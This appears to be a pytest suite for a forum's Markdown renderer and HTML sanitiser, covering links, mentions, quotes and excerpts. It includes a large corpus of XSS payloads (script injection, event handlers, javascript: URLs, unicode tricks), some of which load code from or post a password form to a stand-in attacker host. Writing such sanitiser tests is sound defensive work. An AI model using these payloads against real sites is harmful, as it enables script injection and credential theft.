"""Member Markdown -> trusted HTML (portal/usertext.py).

What renders, how mentions, quotes and excerpts behave, and a corpus of XSS payloads checked by
properties of the output (parsed with the stdlib's html.parser), never by exact strings.
"""

import html
import random
import re
from html.parser import HTMLParser

import pytest

from portal.core.usertext import (
    ALLOWED_TAGS,
    mentioned_handles,
    plain_text,
    quote_markdown,
    render_user_markdown,
    sanitize_html,
)

MEMBERS = {"irina-lampova": "/forum/u/irina-lampova", "ivan-p": "/forum/u/ivan-p", "ol": "/forum/u/ol"}
ATTRIBUTES = {"a": {"href", "title", "rel", "class"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}
SAFE_SCHEMES = {"", "http", "https", "mailto"}


def render(text: str) -> str:
    return render_user_markdown(text, resolve_mention=MEMBERS.get)


# --- the XSS corpus -------------------------------------------------------------------------------

PAYLOADS = [
    # script, style and embedding tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    # event handlers, spelled in various ways
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<a href=/ onclick=alert(1)>x</a>",
    # dangerous URLs in typed HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \tjavascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    # Markdown links and autolinks
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java\tscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    '[x](https://e.example/" onmouseover="alert(1))',
    '[x](https://e.example/"><script>alert(1)</script>)',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[evil]\n\n[evil]: javascript:alert(1) "t"',
    "<javascript:alert(1)>",
    "<javascript://%0Aalert(1)>",
    "<vbscript://msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "javascript:alert(1) and data:text/html,<script>alert(1)</script> as bare text",
    # images
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://e.example/a.png)',
    '![x](https://e.example/a.png"onerror="alert(1))',
    "![x][img]\n\n[img]: javascript:alert(1)",
    '<img src="https://e.example/a.png">',
    # CSS tricks
    '<p style="width:expression(alert(1))">x</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>*{background:url('javascript:alert(1)')}</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    # page-level tags
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="//evil.example/steal"><input name=password><button>ok</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<a href="//evil.example">protocol-relative</a>',
    "[protocol-relative](//evil.example/x)",
    "<a href='https://e.example' rel='opener' target=_blank>x</a>",
    # broken, unclosed and nested markup
    "<<script>script>alert(1)<</script>/script>",
    "<div><p>unclosed <b>markup <i>everywhere",
    '<a href="javascript:alert(1)"',
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>`` and ` `` `",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\ncode\n```',
    "```js onload=alert(1)\nx\n```",
    "> <script>alert(1)</script>\n>> <img src=x onerror=alert(1)>",
    "> ```\n> <script>alert(1)</script>\n> ```",
    "*<script>*alert(1)*</script>*",
    "[<img src=x onerror=alert(1)>](https://e.example)",
    "[[x](javascript:alert(1))](https://e.example)",
    "[x](https://e.example)<script>alert(1)</script>",
    "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- <script>alert(1)</script>\n    - [x](javascript:alert(1))",
    "@ivan-p<script>alert(1)</script> @ivan-p\"onmouseover=alert(1)",
    # unicode tricks
    "\u202e<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "[x](java\u0000script:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "[x](javascript\uff1aalert(1))",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
]


class Inspector(HTMLParser):
    """Everything a browser would act on: elements, attributes (values unescaped), comments, doctypes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data):
        self.other.append(f"comment {data}")

    def handle_decl(self, decl):
        self.other.append(f"declaration {decl}")

    def handle_pi(self, data):
        self.other.append(f"processing instruction {data}")


def inspect(output: str) -> Inspector:
    parser = Inspector()
    parser.feed(output)
    parser.close()
    return parser


def scheme_of(url: str) -> str:
    """The scheme a browser could see, judged strictly: unescaped once more, every whitespace and
    control character removed (browsers drop tabs and newlines anywhere), lower-cased."""
    cleaned = "".join(ch for ch in html.unescape(url) if ch.isprintable() and not ch.isspace()).lower()
    found = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
    return found.group(1) if found else ""


def assert_harmless(output: str) -> None:
    found = inspect(output)
    assert set(found.tags) <= ALLOWED_TAGS, found.tags
    assert not found.other, found.other
    for tag, name, value in found.attributes:
        assert name in ATTRIBUTES.get(tag, set()), (tag, name)
        assert not name.startswith("on") and name != "style", (tag, name)
        if name in ("href", "src"):
            assert scheme_of(value) in SAFE_SCHEMES, value
    rels = [value.split() for tag, name, value in found.attributes if tag == "a" and name == "rel"]
    assert len(rels) == found.tags.count("a")
    assert all({"nofollow", "noopener", "ugc"} <= set(rel) for rel in rels), rels
    lowered = output.lower()
    for opening in ("<script", "<svg", "<iframe", "<style", "<img", "<object", "<embed", "<math", "<base", "<form"):
        assert opening not in lowered, opening


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_renders_harmless(payload):
    output = render(payload)
    assert_harmless(output)
    assert sanitize_html(output) == output


@pytest.mark.parametrize("payload", PAYLOADS[::7])
def test_payload_in_a_quote_and_as_author_name_renders_harmless(payload):
    output = render(quote_markdown(payload, "/forum/t/1/?page=1#p1", payload))
    assert_harmless(output)
    assert "<blockquote>" in output


def test_corpus_is_big_enough():
    assert len(set(PAYLOADS)) >= 40


def test_hostile_mention_url_is_sanitised_too():
    output = render_user_markdown("@ivan-p", resolve_mention=lambda handle: 'javascript:alert(1)"><script>')
    assert_harmless(output)
    assert "javascript" not in output


# --- ordinary Markdown ----------------------------------------------------------------------------

def test_emphasis_and_strikethrough():
    output = render("**жирный** *курсив* ~~зачёркнутый~~ ~не индекс~")
    assert "<strong>жирный</strong>" in output and "<em>курсив</em>" in output
    assert "<del>зачёркнутый</del>" in output and "~не индекс~" in output


def test_lists():
    output = render("- один\n- два\n\n1. первый\n2. второй")
    assert output.count("<li>") == 4 and "<ul>" in output and "<ol>" in output


def test_code_span_and_fenced_block_show_html_as_text_once():
    output = render("`<b>` и\n\n```python\nif a < b and c:\n    print('<i>')\n```")
    assert "<code>&lt;b&gt;</code>" in output
    assert "<pre><code>if a &lt; b and c:\n    print(" in output and "&amp;lt;" not in output


def test_unclosed_fence_stays_text():
    assert "<pre>" not in render("```python\nкод без конца")


def test_blockquote():
    assert "<blockquote>\n<p>цитата</p>\n</blockquote>" in render("> цитата")


def test_table_aligns_with_attribute_not_style():
    output = render("| товар | цена |\n|:--|--:|\n| фильтр | 100 |")
    assert "<table>" in output and '<td align="right">100</td>' in output and "style" not in output


def test_single_newline_is_a_line_break_as_in_chat():
    assert "первая<br>\nвторая" in render("первая\nвторая")


def test_links_get_rel():
    output = render("[пример](https://example.com/a)")
    assert '<a href="https://example.com/a" rel="nofollow noopener ugc">пример</a>' in output


def test_bare_urls_and_addresses_are_linked():
    output = render("см. https://example.com/page?x=1, www.example.org или пишите ivan@example.com.")
    assert 'href="https://example.com/page?x=1"' in output and 'href="http://www.example.org"' in output
    assert 'href="mailto:ivan@example.com"' in output


def test_typed_html_shows_as_text():
    assert render("<b>жирный</b>") == "<p>&lt;b&gt;жирный&lt;/b&gt;</p>"
    assert render('<div class="x">\n\ntext') == '<p>&lt;div class="x"&gt;</p>\n<p>text</p>'


def test_entities_stay_entities():
    assert "&lt;script&gt;" in render("&lt;script&gt;") and "Tom &amp; Jerry" in render("Tom & Jerry")


# --- links: club pages, other sites, other schemes ------------------------------------------------

@pytest.mark.parametrize("href", ["/analytics/rynok-2026/", "/analytics/rynok-2026/#itogi", "/forum/t/12/?page=2#p5",
                                  "../rynok-2025/", "https://club.example/analytics/rynok-2026/"])
def test_club_links_keep_their_target(href):
    assert f'<a href="{href}" rel="nofollow noopener ugc">отчёт</a>' in render(f"[отчёт]({href})")


def test_protocol_relative_link_is_an_external_link():
    assert '<a href="//partner.example/x" rel="nofollow noopener ugc">' in render("[сайт](//partner.example/x)")


@pytest.mark.parametrize("href", ["javascript:alert(1)", "ftp://files.example/x", "tel:+79001234567", "file:///etc"])
def test_other_schemes_lose_the_href_but_keep_the_text(href):
    output = render(f"[текст]({href})")
    assert "href" not in output and ">текст</a>" in output


def test_images_become_links_to_the_picture():
    output = render("![схема](https://example.com/a.png)")
    assert "<img" not in output
    assert '<a href="https://example.com/a.png" rel="nofollow noopener ugc">схема</a>' in output


def test_a_posts_own_pictures_show_inline_and_nothing_else_does():
    from portal.core.usertext import Embed, render_user_markdown
    uploads = {1: Embed("/forum/files/ab", "щит.jpg", "/forum/files/ab/thumb", 480, 320),
               2: Embed("/forum/files/cd", "спецификация.pdf")}
    output = render_user_markdown("![Щит](upload:1) [файл](upload:2) [](upload:2) ![x](upload:3) ![y](upload:2) "
                                  "![z](/forum/files/ab/thumb) [w](upload:1)", uploads=uploads)
    assert output.count("<img") == 1
    assert ('<a href="/forum/files/ab" rel="nofollow noopener ugc"><img alt="Щит" height="320" loading="lazy" '
            'src="/forum/files/ab/thumb" width="480"></a>') in output
    assert '<a href="/forum/files/cd" rel="nofollow noopener ugc">файл</a>' in output
    assert ">спецификация.pdf</a>" in output  # an empty link is named after the file
    assert " x " in output and "upload:3" not in output  # a number the post does not have is text
    assert '>y</a>' in output and '<a href="/forum/files/ab" rel="nofollow noopener ugc">w</a>' in output
    assert render_user_markdown("![Щит](upload:1)") == "<p>Щит</p>"  # without the post's files: text


def test_only_same_origin_pictures_survive_the_sanitiser():
    from portal.core.usertext import sanitize_html
    assert sanitize_html('<img src="/forum/files/ab/thumb" alt="a">') == '<img src="/forum/files/ab/thumb" alt="a">'
    for src in ("https://tracker.example/p.gif", "//tracker.example/p.gif", "/\\tracker.example/p.gif",
                "javascript:alert(1)", "data:image/png;base64,AAAA"):
        assert "src" not in sanitize_html(f'<img src="{src}" onerror="alert(1)">'), src


def test_image_without_alt_text_shows_its_address():
    assert ">https://example.com/a.png</a>" in render("![](https://example.com/a.png)")


def test_headings_are_demoted_below_the_page():
    output = render("# Раз\n\n## Два\n\n### Три\n\nЧетыре\n======\n\n###### Шесть")
    assert "<h1" not in output and "<h2" not in output
    assert "<h3>Раз</h3>" in output and "<h4>Два</h4>" in output and "<h5>Три</h5>" in output
    assert "<h3>Четыре</h3>" in output and "<h6>Шесть</h6>" in output


# --- mentions -------------------------------------------------------------------------------------

def test_known_handle_links_to_the_member():
    output = render("@irina-lampova, посмотрите")
    assert '<a class="mention" href="/forum/u/irina-lampova" rel="nofollow noopener ugc">@irina-lampova</a>' in output


def test_unknown_handle_stays_text():
    output = render("@nobody-here")
    assert "@nobody-here" in output and "<a" not in output


@pytest.mark.parametrize("text", ["`@ivan-p`", "```\n@ivan-p\n```", "    @ivan-p", "ivan@ivan-p.example",
                                  "mail@ivan-p", "[@ivan-p](/x)", "https://example.com/@ivan-p", "@Ivan-p",
                                  "@ivan-p.example", "@ivan_p", "@" + "a" * 41, "@i", "\\@ivan-p"])
def test_no_mention_in_code_links_addresses_or_other_spellings(text):
    assert 'class="mention"' not in render(text)


def test_backslash_writes_a_handle_without_mentioning():
    assert render("\\@ivan-p") == "<p>@ivan-p</p>"


def test_mention_at_the_end_of_a_sentence_and_in_markup():
    output = render("> **@ivan-p**: привет, @ol.\n\n- @irina-lampova!")
    assert output.count('class="mention"') == 3


def test_mentioned_handles_unique_in_order_with_the_same_rules():
    text = "@ivan-p и @olga, `@code`, mail@ivan.ru, [@link](/x)\n\n```\n@block\n```\n\nснова @ivan-p и @zed-1"
    assert mentioned_handles(text) == ["ivan-p", "olga", "zed-1"]


def test_resolver_is_asked_once_per_handle():
    asked = []
    render_user_markdown("@ivan-p @ivan-p @ol", resolve_mention=lambda handle: asked.append(handle))
    assert asked == ["ivan-p", "ol"]


# --- quotes ---------------------------------------------------------------------------------------

def test_quote_round_trip_is_a_blockquote_under_a_link_to_the_post():
    quote = quote_markdown("Ирина Лампова", "/forum/t/12/?page=1#p5", "Первая строка.\n\nВторая строка.")
    assert quote.splitlines()[0] == "[Ирина Лампова](/forum/t/12/?page=1#p5) пишет:"
    output = render(quote)
    assert '<a href="/forum/t/12/?page=1#p5" rel="nofollow noopener ugc">Ирина Лампова</a> пишет:' in output
    assert "<blockquote>\n<p>Первая строка.</p>\n<p>Вторая строка.</p>\n</blockquote>" in output


def test_hostile_author_name_is_shown_as_typed():
    name = "[Админ](javascript:alert(1)) **важно** <b>&amp; `x` @ivan-p"
    output = render(quote_markdown(name, "/forum/t/1/#p1", "текст"))
    found = inspect(output)
    assert [value for _, attr, value in found.attributes if attr == "href"] == ["/forum/t/1/#p1"]
    assert found.tags.count("a") == 1 and "strong" not in found.tags and "code" not in found.tags
    assert plain_text(quote_markdown(name, "/forum/t/1/#p1", "текст")).startswith(name + " пишет:")


def test_quote_url_cannot_end_the_link_early():
    output = render(quote_markdown("Иван", "/forum/t/1/?q=a b)(c#p1", "текст"))
    assert 'href="/forum/t/1/?q=a%20b%29%28c#p1"' in output


def test_quote_of_a_quote_nests():
    inner = quote_markdown("Иван", "/forum/t/1/#p1", "исходное")
    output = render(quote_markdown("Ольга", "/forum/t/1/#p2", inner + "\n\nответ"))
    assert output.count("<blockquote>") == 2


# --- plain text -----------------------------------------------------------------------------------

def test_plain_text_strips_markup():
    text = plain_text("# Итоги\n\n**Привет**, [мир](https://e.example)! `код` &amp; <b>\n\n- раз\n- два")
    assert text == "Итоги Привет, мир! код & <b> раз два"


def test_plain_text_cuts_on_a_word_with_an_ellipsis():
    text = plain_text("слово " * 100, 30)
    assert text == "слово слово слово слово слово…" and len(text) <= 30


def test_plain_text_cuts_a_single_long_word_and_leaves_short_text_alone():
    assert plain_text("а" * 50, 10) == "а" * 9 + "…"
    assert plain_text("короткий текст", 100) == "короткий текст"


# --- never raises, never hangs --------------------------------------------------------------------

@pytest.mark.parametrize("text", ["", " ", "\n\n", "\x00\x01\x02\x03\x7f", "\ud800 broken \udfff", "\r\n\r", "\ufeff",
                                  "\x02wzxhzdk:0\x03", "[x]: ", "```", "> ", "|", "@", "&#0;&#x110000;&#xD800;"])
def test_odd_strings_render(text):
    assert_harmless(render(text))
    assert isinstance(plain_text(text, 5), str) and isinstance(mentioned_handles(text), list)


@pytest.mark.timeout(20)
@pytest.mark.parametrize("text", [
    "*" * 20000, "[" * 20000, "]" * 20000, "[a](" * 5000, "![" * 10000, "[a][" * 5000, "[" * 10000 + "]" * 10000,
    '[a](b "c" ' * 10000, "`" * 20000, "```a\n" * 20000, "> " * 10000, "1. " * 30000, "+ " * 30000,
    "---\n" * 25000, "a\n===\n" * 16000, "|a|b|\n|-|-|\n" * 8000, "_a" * 10000, "~~a" * 7000, "\\" * 20000,
    "<" * 20000, "&#" * 20000, "@a-" * 10000, "http://" + "a" * 100000, "a@" * 10000, "x\n" * 50000 + ">",
])
def test_pathological_input_completes(text):
    assert_harmless(render(text))


@pytest.mark.timeout(60)
@pytest.mark.parametrize("seed", range(3))
def test_random_unicode_of_100_kb(seed):
    rng = random.Random(seed)
    text = "".join(chr(rng.randrange(1, 0x30000)) for _ in range(100_000))
    output = render(text)
    assert_harmless(output)
    assert sanitize_html(output) == output


@pytest.mark.timeout(60)
@pytest.mark.parametrize("seed", range(3))
def test_random_markdown_soup(seed):
    rng = random.Random(seed)
    atoms = ["*", "_", "~", "`", "```", "[", "]", "(", ")", "!", "<", ">", "#", "-", "|", "\\", "@ivan-p", ":", "/",
             " ", "\n", "\n\n", "    ", "1. ", "http://", "www.", "&", ";", "&#", '"', "'", "{", "}", "=", "\x00",
             "й", "😀", "<script>", "javascript:", "[x]: ", "---", "> ", "a", "\u202e"]
    for size in (10, 100, 1000, 20000):
        text = "".join(rng.choice(atoms) for _ in range(size))
        output = render(text)
        assert_harmless(output)
        assert sanitize_html(output) == output
        plain_text(text, 50)
